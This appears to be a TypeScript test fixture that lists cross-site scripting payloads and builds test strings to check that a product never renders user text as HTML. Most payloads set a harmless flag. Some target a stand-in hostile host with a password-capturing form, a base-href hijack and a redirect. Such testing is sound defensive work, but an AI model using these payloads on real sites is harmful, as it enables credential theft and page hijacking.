/** Payloads that are known to break out of text: tags, attributes, URLs, incomplete tags, template syntax. */
export const XSS_PAYLOADS = [
  '<script>window.__xss=1</script>',
  '<img src=x onerror="window.__xss=1">',
  '<svg onload="window.__xss=1"><animate onbegin="window.__xss=1"/></svg>',
  '<a href="javascript:window.__xss=1">klik</a>',
  '<a href="java&#x0A;script:window.__xss=1">klik</a>',
  '<a href="  javascript:window.__xss=1">klik</a>',
  '<a href="data:text/html,<script>window.__xss=1</script>">klik</a>',
  '<a href="//jahat.test">klik</a>',
  '<a href="https://aman.test" onclick="window.__xss=1" style="position:fixed;inset:0">klik</a>',
  '<p onmouseover="window.__xss=1" style="background:url(javascript:1)">teks</p>',
  '<iframe srcdoc="<script>parent.__xss=1</script>"></iframe>',
  '<math><mtext><table><mglyph><style><img src=x onerror=window.__xss=1></style></mglyph></table></mtext></math>',
  '<noscript><p title="</noscript><img src=x onerror=window.__xss=1>"></noscript>',
  '<form action="https://jahat.test"><input name="password"><button>Masuk</button></form>',
  '<style>@import "https://jahat.test/x.css"</style>',
  '<base href="https://jahat.test/">',
  '<meta http-equiv="refresh" content="0;url=https://jahat.test">',
  '<object data="javascript:window.__xss=1"></object>',
  '<scr<script>ipt>window.__xss=1</scr</script>ipt>',
  '&lt;img src=x onerror=window.__xss=1&gt;',
  '"><img src=x onerror=window.__xss=1>',
  "'-window.__xss=1-'",
  '{{constructor.constructor("window.__xss=1")()}}',
  '</title><script>window.__xss=1</script>',
];

/** An element that the product never uses: finding it in the page means that text became HTML. */
export const XSS_MARK = '<i data-xss>';

const SHORT = '<img src=x onerror=__xss=1>';
const LONGEST = 1_200;

/**
 * A text of at most `max` characters: a word to find it by, the mark, and as many payloads as fit, beginning with
 * another one each `turn`.
 * @throws Error when the mark does not fit.
 */
export function xssText(word: string, max: number, turn: number): string {
  let text = word + XSS_MARK;
  if (text.length > max) throw new Error(`no room for a mark in ${max} characters`);
  const turned = [...XSS_PAYLOADS.slice(turn % XSS_PAYLOADS.length), ...XSS_PAYLOADS, SHORT];
  for (const payload of turned)
    if (text.length + payload.length <= Math.min(max, LONGEST) && !text.includes(payload)) text += payload;
  return text;
}
